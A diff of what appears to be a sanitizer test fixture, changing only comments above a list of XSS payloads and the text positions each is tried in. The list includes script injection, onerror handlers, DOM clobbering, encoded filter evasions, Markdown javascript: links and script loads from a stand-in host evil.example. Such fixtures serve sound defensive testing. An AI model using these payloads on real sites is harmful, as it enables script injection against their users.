@@ -1,6 +1,6 @@
-/** Texts that must stay texts. Not one of them may become a script, a frame, a form, a name or a request. */
+/** Texts that must stay text: none may become a script, a frame, a form, a name or a request. */
 
-/** What somebody who means harm might write. */
+/** Attacks. */
 export const PAYLOADS = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
@@ -107,7 +107,7 @@ export const PAYLOADS = [
   '<p>&#x3C;img src=x onerror=alert(1)&#x3E;</p>',
   '`</code><img src=x onerror=alert(1)>`',
   '~~~</code></pre><img src=x onerror=alert(1)>\nx\n~~~',
-  // Names that a script of the page might look up.
+  // Names that a script of the page looks up.
   '<img name=getElementById>',
   '<form id=__TSR_ROUTER__><input name=state></form>',
   '<a id=config href="//evil.example">x</a><a id=config name=url href="//evil.example">y</a>',
@@ -115,7 +115,7 @@ export const PAYLOADS = [
   '<output id=state>{"queries":[]}</output>',
   '[x]{#state}\n\n# state {#root}',
   'x[^root]\n\n[^root]: y',
-  // Old tricks of filters' evasion.
+  // Known filter evasions.
   '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
   '<IMG SRC="jav&#x0A;ascript:alert(1);">',
   '<img src="/" =_=" title="onerror=\'alert(1)\'">',
@@ -139,7 +139,7 @@ export const PAYLOADS = [
   '<div popover id=p onbeforetoggle=alert(1)></div><button popovertarget=p>x</button>',
   '<script type=module>import "//evil.example/x.js"</script>',
   '<script type="importmap">{"imports":{}}</script>',
-  // Links and pictures as only Markdown has them.
+  // Links and images in Markdown syntax.
   '[x](javascript://%0aalert(1))',
   '[x](  javascript:alert(1)  "t")',
   '[x](\\javascript:alert(1))',
@@ -165,7 +165,7 @@ export const PAYLOADS = [
   'ftp://evil.example/x www.evil.example?x=<script>alert(1)</script>',
 ]
 
-/** Places of a text in which it is tried. */
+/** Positions in a text where each attack is tried. */
 export const WRAPPERS: [name: string, wrap: (payload: string) => string][] = [
   ['alone', (payload) => payload],
   ['in a quote', (payload) => payload.replace(/^/gm, '> ')],
